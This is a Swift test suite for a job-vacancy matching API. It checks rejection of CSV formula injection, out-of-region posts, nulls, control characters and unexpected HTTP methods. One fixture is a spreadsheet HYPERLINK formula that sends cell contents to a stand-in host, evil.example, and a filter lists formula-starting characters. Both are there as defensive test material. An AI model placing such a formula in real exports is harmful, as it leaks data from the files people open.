import Foundation
import Hummingbird
import HummingbirdTesting
@testable import MatchStore
import NIOCore
import Testing

/// What the outside probe of issue 13 found in the API, each as a class of input.
@Suite("The API under attack")
struct HostileInputTests {
    static let formula = #"=HYPERLINK("http://evil.example/?"&A1,"详情")"#

    /// The cells of a CSV export (RFC 4180, with the BOM removed), row by row.
    static func cells(_ csv: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var scalars = Array(csv.unicodeScalars.drop { $0 == "\u{FEFF}" })[...]
        while let scalar = scalars.popFirst() {
            switch (scalar, quoted) {
            case ("\"", true) where scalars.first == "\"": cell.unicodeScalars.append(scalars.removeFirst())
            case ("\"", _): quoted.toggle()
            case (",", false): row.append(cell); cell = ""
            case ("\r", false): continue
            case ("\n", false): row.append(cell); rows.append(row); row = []; cell = ""
            default: cell.unicodeScalars.append(scalar)
            }
        }
        return rows
    }

    /// OWASP's rule: no cell of a file a person opens in a spreadsheet starts a formula.
    static func formulaCells(_ csv: String) -> [String] {
        cells(csv).flatMap { $0 }.filter { cell in
            guard let first = cell.unicodeScalars.first else { return false }
            return ["=", "+", "-", "@", "\t", "\r"].contains(first)
        }
    }

    @Test("a candidate named like a formula is exported as text in the offers CSV, and so is any post field in the posts CSV")
    func csvFormulaInjection() async throws {
        try await withAPI { fixture, client in
            try await fixture.owner.client.query(
                "UPDATE candidates SET full_name = \(Self.formula) WHERE id = (SELECT min(candidate_id) FROM offers)")
            try await fixture.owner.client.query(
                """
                UPDATE vacancies SET title = '+86 热线', description = '@所有人' WHERE id = (
                    SELECT min(v.id) FROM vacancies v JOIN centres c ON c.id = v.centre_id WHERE c.code = 'BZ-CENTRE')
                """)
            let token = fixture.header(fixture.tokens.centreA)
            try await client.execute(uri: "/api/v1/exports/offers", method: .get, headers: token) { response in
                let text = String(buffer: response.body)
                #expect(text.contains("HYPERLINK"), "the named candidate has an offer on BZ-CENTRE's posts")
                #expect(Self.formulaCells(text).isEmpty, "\(Self.formulaCells(text))")
                #expect(Self.cells(text).flatMap { $0 }.contains("'" + Self.formula))
            }
            var exported = ""
            try await client.execute(uri: "/api/v1/exports/vacancies", method: .get, headers: token) { response in
                exported = String(buffer: response.body)
                #expect(Self.formulaCells(exported).isEmpty, "\(Self.formulaCells(exported))")
            }
            // The quote is the spreadsheet's, not the post's: importing the export changes nothing.
            try await client.execute(uri: "/api/v1/imports/vacancies", method: .post, headers: token + [.contentType: "text/csv"],
                                     body: ByteBuffer(string: exported)) { response in
                #expect(response.status == .ok)
                #expect(JSONBody(response)["updated"] as? Int == 0, "\(String(buffer: response.body))")
            }
        }
    }

    @Test("a centre cannot post outside its own region: the API, the CSV import and the database refuse it")
    func vacancyOutsideCentreRegion() async throws {
        try await withAPI { fixture, client in
            let headers = fixture.header(fixture.tokens.centreA) + [.contentType: "application/json"]
            // BZ-CENTRE is 巴中 (511900); 利州区 (510802) is in 广元.
            let guangyuan = VacancyHandlerTests.post.replacingOccurrences(of: #""region": "511921""#, with: #""region": "510802""#)
            try await client.execute(uri: "/api/v1/vacancies", method: .post, headers: headers, body: .json(guangyuan)) { response in
                #expect(response.status == .unprocessableContent, "\(String(buffer: response.body))")
                #expect(JSONBody(response).pointers == ["/region"])
            }
            let csv = "external_id,title,region_code,seats,staffing_type,accepted_modes\r\nGY-1,广元岗位,510802,1,contract,remote\r\n"
            try await client.execute(uri: "/api/v1/imports/vacancies", method: .post, headers: fixture.header(fixture.tokens.centreA)
                                     + [.contentType: "text/csv"], body: ByteBuffer(string: csv)) { response in
                #expect(response.status == .unprocessableContent)
                #expect(JSONBody(response).pointers == ["/rows/2/region_code"])
            }
            #expect(try await fixture.countAll("SELECT count(*) FROM vacancies WHERE region_code LIKE '5108%'") == 0)
            // Nor can anything else write one: the database checks it too.
            await #expect(throws: (any Error).self) {
                try await fixture.owner.client.query(
                    """
                    INSERT INTO vacancies (centre_id, external_id, title, region_code, seats, staffing_type, accepted_modes)
                    SELECT id, 'GY-2', '广元岗位', '510802', 1, 'contract', '{remote}' FROM centres WHERE code = 'BZ-CENTRE'
                    """)
            }
        }
    }

    @Test("null is never a value: a what-if with null policy and date is refused naming both")
    func nullsRefused() async throws {
        try await withAPI { fixture, client in
            let headers = fixture.header(fixture.tokens.officeA) + [.contentType: "application/json"]
            let before = try await fixture.countAll("SELECT count(*)::int FROM match_runs")
            try await client.execute(uri: "/api/v1/offices/BZ-HR/what-if", method: .post, headers: headers,
                                     body: .json(#"{"policy": null, "date": null}"#)) { response in
                #expect(response.status == .badRequest, "\(String(buffer: response.body))")
                #expect(response.isProblem)
                #expect(JSONBody(response).pointers.sorted() == ["/date", "/policy"])
            }
            try await client.execute(uri: "/api/v1/vacancies", method: .post,
                                     headers: fixture.header(fixture.tokens.centreA) + [.contentType: "application/json"],
                                     body: .json(VacancyHandlerTests.post.replacingOccurrences(of: #""seats": 2,"#, with: #""seats": 2, "target": null,"#))) { response in
                #expect(response.status == .badRequest)
                #expect(JSONBody(response).pointers == ["/target"])
            }
            #expect(try await fixture.countAll("SELECT count(*)::int FROM match_runs") == before)
        }
    }

    @Test("a control character in any JSON string is refused naming the field; nothing is stored")
    func controlCharactersInJSON() async throws {
        try await withAPI { fixture, client in
            let headers = fixture.header(fixture.tokens.centreA) + [.contentType: "application/json"]
            for escape in [#"\u0000"#, #"\u001b"#, #"\u007f"#, #"\u0085"#] {
                let body = VacancyHandlerTests.post.replacingOccurrences(of: #""title": "通江县乡镇水利技术员""#, with: #""title": "通江\#(escape)县""#)
                try await client.execute(uri: "/api/v1/vacancies", method: .post, headers: headers, body: .json(body)) { response in
                    #expect(response.status == .unprocessableContent, "\(escape): \(String(buffer: response.body))")
                    #expect(JSONBody(response).pointers == ["/title"], "\(escape)")
                }
            }
            #expect(try await fixture.countAll("SELECT count(*) FROM vacancies WHERE external_id = 'API-1'") == 0)
        }
    }

    @Test("a dry run counts only good rows as created; bad rows are counted as invalid")
    func dryRunCounts() async throws {
        try await withAPI { fixture, client in
            let csv = "external_id,title,region_code,seats,staffing_type,accepted_modes\r\n"
                + "OK-1,好岗位,511921,1,contract,remote\r\nBAD-1,坏岗位,511921,many,contract,remote\r\n"
            try await client.execute(uri: "/api/v1/imports/vacancies?dryRun=true", method: .post,
                                     headers: fixture.header(fixture.tokens.centreA) + [.contentType: "text/csv"],
                                     body: ByteBuffer(string: csv)) { response in
                #expect(response.status == .ok)
                let report = JSONBody(response)
                #expect(report["created"] as? Int == 1, "\(String(buffer: response.body))")
                #expect(report["invalid"] as? Int == 1)
                #expect(report["rows"] as? Int == 2)
            }
        }
    }

    @Test("TRACE and undeclared methods are 405 problems with Allow; errors carry nosniff and no-store")
    func methodsAndHeaders() async throws {
        try await withAPI { fixture, client in
            let token = fixture.header(fixture.tokens.centreA)
            for (method, path, allow) in [(HTTPRequest.Method.trace, "/api/v1/vacancies", "GET, HEAD, POST"),
                                          (.delete, "/api/v1/vacancies/1", "GET, HEAD, PUT"),
                                          (.patch, "/health", "GET, HEAD"),
                                          (.trace, "/api/v1/no-such-thing", nil)] {
                try await client.execute(uri: path, method: method, headers: token) { response in
                    #expect(response.status == (allow == nil ? .notFound : .methodNotAllowed), "\(method) \(path)")
                    #expect(response.isProblem, "\(method) \(path)")
                    #expect(response.headers[.allow] == allow, "\(method) \(path)")
                    #expect(response.headers[.init("X-Content-Type-Options")!] == "nosniff", "\(method) \(path)")
                    #expect(response.headers[.cacheControl] == "no-store", "\(method) \(path)")
                }
            }
            try await client.execute(uri: "/api/v1/vacancies", method: .get, headers: token) { response in
                #expect(response.status == .ok)
                #expect(response.headers[.cacheControl] == "no-store")
            }
        }
    }
}
